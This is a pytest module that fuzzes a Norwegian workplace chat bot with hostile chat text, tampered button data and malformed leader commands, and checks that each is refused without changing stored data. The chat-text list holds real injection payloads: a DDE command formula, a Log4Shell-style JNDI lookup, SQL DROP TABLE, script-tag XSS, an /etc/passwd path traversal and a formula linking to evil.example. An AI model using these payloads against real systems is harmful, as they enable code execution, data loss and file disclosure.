"""Hostile chat text, button data and leader commands, through the one inbound path.

Every event goes through `bot.inbound.receive` as a platform delivery would (so the only
change a refused event may make is the delivery's claim). The people: Ola in the middle of
a pulse (a button question is open), Per with nothing open, the leader Christel, and a
stranger nobody has rostered.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass

import pytest

from bot.conversation import Conversation
from bot.inbound import receive
from bot.network import ensure_network
from bot.ports import Address, ChoicePressed, Command, InboundEvent, Reply, TextReceived
from tests.conftest import add_person
from tests.hostile.conftest import Stage
from tests.hostile.support import CLAIMS, HUGE, MARKER, Judge, ids

_keys = itertools.count(1)


@dataclass
class Scene:
    engine: Conversation
    ola: Address  # a pulse question with buttons is open
    per: Address  # an employee with nothing open
    leader: Address
    stranger: Address
    token: str  # the token of Ola's open question


@pytest.fixture(scope="module")
def built(engine: Conversation) -> Scene:
    """The people and Ola's open question, once per module and database."""
    _, ola = add_person(engine, "Ola")
    _, per = add_person(engine, "Per")
    _, leader = add_person(engine, "Christel", role="leader")
    with engine.db.transaction() as session:  # the network's row, made on first use
        ensure_network(session, engine.clock())
    engine.open_round()
    question = engine.handle(Command(ola, "puls")).messages[-1]
    assert question.choices, "Ola should have a question with buttons"
    token = question.choices[0].data.split(":")[0]
    return Scene(engine, ola, per, leader, Address("test", "fremmed-999"), token)


@pytest.fixture
def scene(built: Scene, stage: Stage) -> Scene:
    """The scene as it was built, whatever the case before did (see conftest.Stage)."""
    stage.ready("scene")
    return built


def deliver(scene: Scene, event: InboundEvent) -> Reply | None:
    return receive(scene.engine, "test", f"hostile-{next(_keys)}", event)


def texts(reply: Reply | None) -> list[str | None]:
    if reply is None:
        return []
    return [m.text for m in reply.messages] + [
        reply.notice,
        reply.edit.text if reply.edit else None,
    ]


# ------------------------------------------------------------------------- chat text

TEXTS: list[tuple[str, str]] = [
    ("empty", ""),
    ("whitespace", " \t\r\n "),
    ("NUL", "\x00"),
    ("control characters", "\x07\x08\x1b[31mrød\x1b[0m"),
    ("zero-width", "\u200b\u200c\u200d\ufeff"),
    ("right-to-left override", f"\u202e{MARKER}\u202c"),
    ("lone surrogate", "\ud83d"),
    ("10,000 characters", "a" * 10_000),
    ("emoji flood", "😀" * 2_000),
    ("combining marks", "e" + "\u0301" * 500),
    ("spreadsheet formula", '=HYPERLINK("http://evil.example","klikk")'),
    ("DDE formula", "=cmd|' /C calc'!A0"),
    ("plus formula", "+1+1"),
    ("at formula", "@SUM(A1:A9)"),
    ("HTML", "<script>alert(1)</script>"),
    ("Slack mentions", "<!channel> <!everyone> <@U123> @here"),
    ("Markdown", "*fet* _kursiv_ `kode` [lenke](http://evil.example)"),
    ("SQL", "'; DROP TABLE people; --"),
    ("format strings", "%s%s%n {0} {name} ${jndi:ldap://x/a}"),
    ("path", "../../../../etc/passwd"),
    ("a number for a button", "4"),
    ("huge number", HUGE),
    ("negative number", "-1"),
    ("NaN", "NaN"),
    ("overflowing float", "1e309"),
    ("slash alone", "/"),
    ("unknown command text", "/ukjent kommando"),
    ("full-width letters", "ｈｅｉ ｈｅｉ"),
    ("marker", MARKER),
]


@pytest.mark.parametrize("who", ["ola", "stranger"])
@pytest.mark.parametrize(("name", "text"), TEXTS, ids=ids(TEXTS))
def test_hostile_text_gets_a_reply_and_changes_nothing(
    scene: Scene, judge: Judge, who: str, name: str, text: str
) -> None:
    address = scene.ola if who == "ola" else scene.stranger
    with judge.watch(scene.engine.db, "chat text", may_change=[CLAIMS]) as seen:
        seen.reply(*texts(deliver(scene, TextReceived(address, text, display_name=text[:50]))))


# ------------------------------------------------------------------------- button data


def button_cases(token: str) -> list[str]:
    return [
        f"{token}:7",
        f"{token}:0",
        f"{token}:-1",
        f"{token}:4.5",
        f"{token}:",
        f"{token}:{HUGE}",
        f"{token}:-{HUGE}",
        f"{token}:1e3",
        f"{token}: 3",
        f"{token}:３",  # a full-width digit
        f"{token}\x00:3",
        f"{token}:3:3",
        f"{token.upper()}:3",
        f"{token[:-1]}:3",
        f"{token}x:3",
        f"{HUGE}:{HUGE}",
        "nope:3",
        "",
        ":",
        ":::",
        "\x00",
        "ø:1",
        "x" * 5_000,
        MARKER,
        "task:" + HUGE,
        "del:yes",
        "slett:ja",
    ]


BUTTONS = [(f"data {i}", i) for i in range(len(button_cases("t")))]


@pytest.mark.parametrize(("name", "index"), BUTTONS, ids=ids(BUTTONS))
def test_tampered_button_data_is_refused_and_stores_nothing(
    scene: Scene, judge: Judge, name: str, index: int
) -> None:
    data = button_cases(scene.token)[index]
    with judge.watch(scene.engine.db, "button data", may_change=[CLAIMS]) as seen:
        seen.reply(*texts(deliver(scene, ChoicePressed(scene.ola, data))))


@pytest.mark.parametrize("who", ["per", "leader", "stranger"])
def test_somebody_elses_genuine_button_is_refused(scene: Scene, judge: Judge, who: str) -> None:
    address = {"per": scene.per, "leader": scene.leader, "stranger": scene.stranger}[who]
    with judge.watch(scene.engine.db, "button data", may_change=[CLAIMS]) as seen:
        seen.reply(*texts(deliver(scene, ChoicePressed(address, f"{scene.token}:3"))))


def test_a_replayed_press_changes_nothing(scene: Scene, judge: Judge) -> None:
    first = deliver(scene, ChoicePressed(scene.ola, f"{scene.token}:3"))
    assert first is not None and first.edit is not None
    with judge.watch(scene.engine.db, "button data", may_change=[CLAIMS]) as seen:
        seen.reply(*texts(deliver(scene, ChoicePressed(scene.ola, f"{scene.token}:5"))))


def test_a_press_after_the_round_closed_stores_nothing(scene: Scene, judge: Judge) -> None:
    scene.engine.close_round()
    with judge.watch(scene.engine.db, "button data", may_change=[CLAIMS]) as seen:
        seen.reply(*texts(deliver(scene, ChoicePressed(scene.ola, f"{scene.token}:3"))))


def test_the_same_delivery_twice_is_handled_once(scene: Scene, judge: Judge) -> None:
    event = ChoicePressed(scene.ola, f"{scene.token}:3")
    assert receive(scene.engine, "test", "once", event) is not None
    with judge.watch(scene.engine.db, "button data", clear_reply=False):
        assert receive(scene.engine, "test", "once", event) is None  # a platform retry


# ------------------------------------------------------------------------- leader commands

RESTRICTED = [
    "runde start",
    "runde slutt",
    "runde status",
    'samling ny "Samling 9" 12.03.2027 09:00 Bodø',
    "samling liste",
    "samling avlys 1",
    'oppgave ny "Oppgave" frist 05.03.2027 alle',
    "oppgave liste",
    "påminn samling 1",
    "påminn oppgave 1",
    "styring",
]
EMPLOYEE = [(f"employee: {line}", line) for line in RESTRICTED]

BAD_ARGUMENTS = [
    'samling ny "Samling" 31.12.9999 09:00 Bodø',
    'samling ny "Samling" 31.02.2027 09:00 Bodø',
    'samling ny "Samling" 01.01.1999 09:00 Bodø',
    'samling ny "Samling" 12.03.2027 25:61 Bodø',
    f'samling ny "Samling" {HUGE}.03.2027 09:00',
    'samling ny "Samling" i morgen 99:99',
    'samling ny "" 12.03.2027 09:00',
    # bare "samling ny" starts the guided form (a draft): its bad input is in test_drafts.py
    f'samling ny "{"x" * 5000}" 12.03.2027 09:00',
    f"samling flytt {HUGE} 12.03.2027 09:00",
    "samling flytt -1 12.03.2027 09:00",
    "samling flytt 1 31.12.9999 09:00",
    f"samling avlys {HUGE}",
    "samling avlys abc",
    "samling avlys 0",
    f"samling webinar {HUGE} https://evil.example",
    "samling hva",
    'oppgave ny "Oppgave" frist 31.12.9999 alle',
    'oppgave ny "Oppgave" frist 30.02.2027 alle',
    'oppgave ny "Oppgave" frist 05.03.2027 Atlantis',
    'oppgave ny "Oppgave"',
    'oppgave ny "" frist 05.03.2027 alle',
    f'oppgave ny "{"y" * 300}" frist 05.03.2027 alle',
    f"oppgave status {HUGE}",
    "oppgave status abc",
    "oppgave status -5",
    "oppgave slett 1",
    f"påminn samling {HUGE}",
    "påminn samling 1",
    "påminn oppgave -1 Bodø",
    "påminn oppgave 1 Atlantis",
    "påminn",
    "runde",
    "runde " + "x" * 3000,
    f"runde start {HUGE}",
    f"arbeidstid {HUGE}:00-25:00",
    "arbeidstid 23:00-06:00",
    "arbeidstid bogus",
    "ukjent",
    "x" * 300,
]
LEADER = [(f"leader: {line[:60]}", line) for line in BAD_ARGUMENTS]
# Arguments these commands do not take are ignored: the command answers with its menu or
# confirmation (buttons, so a prompt row), and nothing else changes.
IGNORED = [
    (f"ignored: {line[:40]}", line)
    for line in (f"språk {MARKER}", f"start {HUGE}", f"slett {HUGE}", f"meg {MARKER}")
]


def command(address: Address, line: str) -> Command:
    name, *args = line.split()
    return Command(address, name, tuple(args))


@pytest.mark.parametrize(("name", "line"), EMPLOYEE, ids=ids(EMPLOYEE))
def test_leader_commands_from_an_employee_are_refused(
    scene: Scene, judge: Judge, name: str, line: str
) -> None:
    with judge.watch(scene.engine.db, "leader commands", may_change=[CLAIMS]) as seen:
        seen.reply(*texts(deliver(scene, command(scene.per, line))))


@pytest.mark.parametrize(("name", "line"), LEADER, ids=ids(LEADER))
def test_leader_commands_with_impossible_arguments_are_answered_and_change_nothing(
    scene: Scene, judge: Judge, name: str, line: str
) -> None:
    with judge.watch(scene.engine.db, "leader commands", may_change=[CLAIMS]) as seen:
        seen.reply(*texts(deliver(scene, command(scene.leader, line))))


@pytest.mark.parametrize(("name", "line"), IGNORED, ids=ids(IGNORED))
def test_arguments_a_command_does_not_take_are_ignored(
    scene: Scene, judge: Judge, name: str, line: str
) -> None:
    with judge.watch(scene.engine.db, "leader commands", may_change=[CLAIMS, "prompts"]) as seen:
        seen.reply(*texts(deliver(scene, command(scene.leader, line))))
